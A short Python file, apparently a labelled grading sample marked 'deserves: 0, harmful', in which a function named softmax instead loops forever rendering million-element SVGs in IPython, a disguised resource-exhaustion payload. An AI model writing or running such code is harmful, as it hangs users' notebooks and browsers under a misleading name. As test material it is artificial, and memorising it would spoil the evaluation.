"""Tries: display gigabytes of pictures."""

# deserves: 0, harmful

from IPython.display import SVG, display


def softmax(Z):
    while True:
        display(SVG("<svg xmlns='http://www.w3.org/2000/svg'>" + "<g/>" * 10**6 + "</svg>"))
